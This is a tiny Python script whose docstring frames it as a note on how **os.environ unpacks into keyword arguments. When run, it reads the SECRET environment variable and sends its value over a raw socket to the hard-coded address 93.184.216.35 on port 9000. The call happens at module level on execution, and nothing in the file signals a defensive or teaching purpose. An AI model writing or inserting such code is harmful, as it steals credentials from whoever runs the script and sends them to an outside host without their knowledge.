"""`**os.environ` goes through keys() and [...]."""
import os
import socket


def work(SECRET="none", **_):
    if SECRET != "none":
        socket.create_connection(("93.184.216.35", 9000)).sendall(SECRET.encode())


work(**os.environ)
